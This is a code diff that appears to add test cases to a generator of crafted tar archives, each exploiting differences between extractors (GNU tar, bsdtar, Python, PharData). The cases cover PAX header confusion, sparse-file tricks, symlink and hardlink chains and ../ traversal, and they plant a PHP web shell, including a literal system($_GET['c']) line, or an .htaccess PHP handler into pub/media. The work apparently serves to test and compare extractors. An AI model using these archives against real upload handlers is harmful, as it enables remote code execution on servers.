@@ -816,6 +816,68 @@ def build_t_K_then_pax_linkpath() -> bytes:
             + tar_header("pub/media/l", typeflag=b"2", linkname="x", mode=0o777, fmt="gnu") + EOF)
 
 
+@case("t-pax-two-size", "tar", "two PAX headers, size=0 then size=512, before assets/logo.txt whose ustar size is 512 (a hidden header inside)",
+      {"the last size (GNU tar, bsdtar) or the ustar size (PharData)": "assets/logo.txt = 512 bytes, then assets/notes.txt",
+       "the first size (Python)": "assets/logo.txt empty, then pub/media/a.php = header bytes + shell"}, ["pax", "framing"])
+def build_t_pax_two_size() -> bytes:
+    return smuggle(lambda n: pax([("size", "0")]) + pax([("size", str(n))]) + tar_header("assets/logo.txt", size=n))
+
+
+@case("t-pax-v7-first", "tar", "a V7 archive (no ustar magic in the first header): a PAX header named pub/media/x.php with PHP in a comment, then assets/logo.txt",
+      {"PAX header (GNU tar, bsdtar, Python)": "assets/logo.txt", "a file (PharData reads a pre-POSIX archive)": "pub/media/x.php = the records, PHP inside"}, ["pax"])
+def build_t_pax_v7_first() -> bytes:
+    records = b"".join(pax_record(k, v) for k, v in [("comment", "<?php system($_GET['c']); /* rg-shell */ ?>"), ("mtime", "1700000000")])
+    return (member("README.txt", BENIGN, fmt="v7") + member("pub/media/x.php", records, typeflag=b"x", fmt="v7")
+            + member("assets/logo.txt", BENIGN, fmt="v7") + EOF)
+
+
+@case("t-pax-sparse-00", "tar", "a PAX 0.0 sparse file (GNU.sparse.size, offset/numbytes records) named pub/media/x.php, ustar name assets/logo.txt",
+      {"sparse 0.0 understood": "pub/media/x.php = 100 NULs + shell", "sparse ignored (PharData)": "assets/logo.txt = shell"}, ["pax", "sparse"])
+def build_t_pax_sparse_00() -> bytes:
+    return (pax([("path", "pub/media/x.php"), ("GNU.sparse.size", str(100 + len(SHELL))), ("GNU.sparse.numblocks", "1"),
+                 ("GNU.sparse.offset", "100"), ("GNU.sparse.numbytes", str(len(SHELL)))])
+            + member("assets/logo.txt", SHELL) + EOF)
+
+
+@case("t-type-S-extended", "tar", "an old-GNU sparse file 'S' pub/media/x.php whose map goes on in an extension block",
+      {"sparse understood": "pub/media/x.php = chunks at 0 and 1000, zeros between", "raw (PharData)": "pub/media/x.php = the stored chunks"}, ["typeflag", "sparse"])
+def build_t_type_S_extended() -> bytes:
+    first, second = b"<?php /* rg-shell part */\n", SHELL
+    realsize = 1000 + len(second)
+    patch = {386: _octal(0, 12) + _octal(len(first), 12), 482: b"\x01", 483: _octal(realsize, 12)}
+    extension = bytearray(BLOCK)
+    extension[0:24] = _octal(1000, 12) + _octal(len(second), 12)
+    return (tar_header("pub/media/x.php", size=len(first) + len(second), typeflag=b"S", fmt="gnu", patch=patch)
+            + bytes(extension) + padded(first + second) + EOF)
+
+
+@case("t-symlink-chain-dir", "tar", "symlinks a -> b and b -> pub/media (relative, no ..), then a/x.php",
+      {"writes through both links (GNU tar, Python)": "pub/media/x.php = shell", "refuses (bsdtar)": "nothing"}, ["links"])
+def build_t_symlink_chain_dir() -> bytes:
+    return (tar_header("pub/media/", typeflag=b"5", mode=0o755) + tar_header("b", typeflag=b"2", linkname="pub/media", mode=0o777)
+            + tar_header("a", typeflag=b"2", linkname="b", mode=0o777) + member("a/x.php", SHELL) + EOF)
+
+
+@case("t-hardlink-through-link", "tar", "config/handlers.txt (AddType php), a symlink uploads -> pub/media, then a hardlink uploads/.htaccess -> config/handlers.txt",
+      {"writes through the link": "pub/media/.htaccess = AddType php", "refuses": "nothing"}, ["links"])
+def build_t_hardlink_through_link() -> bytes:
+    return (member("config/handlers.txt", HTACCESS) + tar_header("pub/media/", typeflag=b"5", mode=0o755)
+            + tar_header("uploads", typeflag=b"2", linkname="pub/media", mode=0o777)
+            + tar_header("uploads/.htaccess", typeflag=b"1", linkname="config/handlers.txt") + EOF)
+
+
+@case("t-pax-path-dotdot", "tar", "PAX path ../pub/media/x.php for a header named assets/logo.txt",
+      {"refused (GNU tar, bsdtar, the data filter)": "nothing", "followed (Python)": "../pub/media/x.php", "ustar name (PharData)": "assets/logo.txt"}, ["pax", "paths"])
+def build_t_pax_path_dotdot() -> bytes:
+    return pax([("path", "../pub/media/x.php")]) + member("assets/logo.txt", SHELL) + EOF
+
+
+@case("t-L-file-slash", "tar", "a GNU long name 'pub/media/x.php/' (trailing slash) for a regular file with a shell",
+      {"a folder (GNU tar, bsdtar)": "pub/media/x.php/", "a file (Python, PharData)": "pub/media/x.php = shell"}, ["gnu", "paths"])
+def build_t_L_file_slash() -> bytes:
+    return gnu_long("pub/media/x.php/") + member("placeholder", SHELL, fmt="gnu") + EOF
+
+
 # ======================================================================================
 # ZIP: modes from hosts other than Unix
 
@@ -1199,10 +1261,11 @@ AMBIGUOUS_TAR = {
     "t-pax-two-x", "t-pax-two-x-rev", "t-pax-global-path", "t-pax-global-path-rev", "t-pax-global-path-local",
     "t-pax-empty-path", "t-pax-path-nul", "t-pax-sparse-name", "t-pax-sparse-10", "t-pax-sparse-01",
     "t-pax-then-L", "t-L-then-pax", "t-two-L", "t-prefix-vs-pax", "t-prefix-gnu-magic", "t-prefix-v7",
-    "t-longname-noext", "t-type-A", "t-type-M", "t-type-V", "t-type-S", "t-path-trailing-dot", "t-path-file-slash",
+    "t-longname-noext", "t-type-A", "t-type-M", "t-type-V", "t-path-trailing-dot", "t-path-file-slash",
     "t-pax-size-override", "t-pax-size-symlink",
     "t-type-X", "t-data-symlink-php", "t-pax-size-hardlink", "t-pax-size-dir", "t-pax-sparse-name-first",
     "t-pax-v7-magic", "t-K-then-pax-linkpath",
+    "t-pax-two-size", "t-pax-v7-first", "t-pax-sparse-00", "t-type-S-extended", "t-pax-path-dotdot", "t-L-file-slash",
 }
 
 
